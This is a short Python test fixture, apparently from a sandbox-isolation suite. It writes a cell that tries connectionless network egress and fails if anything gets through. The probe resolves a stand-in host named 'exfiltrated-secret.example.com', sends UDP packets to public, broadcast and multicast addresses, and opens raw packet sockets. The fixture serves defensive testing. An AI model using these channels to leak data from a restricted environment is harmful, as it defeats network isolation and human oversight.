"""Names are resolved and packets sent without any connection: the usual way out of a network that is only half closed.

Whatever it reaches becomes an error of the cell, so that a run without one has reached nothing.
"""

HOSTILE = r"""
import socket
reached = []
for name in ("example.com", "exfiltrated-secret.example.com", "localhost.localdomain"):
    try:
        reached.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
for address in (("8.8.8.8", 53), ("255.255.255.255", 67), ("224.0.0.251", 5353), ("10.0.0.2", 53)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            reached.append(sender.sendto(b"anybody there?", address))
        except OSError:
            pass
for family in (socket.AF_PACKET, socket.AF_NETLINK):
    try:
        with socket.socket(family, socket.SOCK_RAW, 0) as raw:
            if family == socket.AF_PACKET:
                reached.append("packets")
    except OSError:
        pass
assert not reached, reached
"""


def write(draft):
    draft.last(HOSTILE)
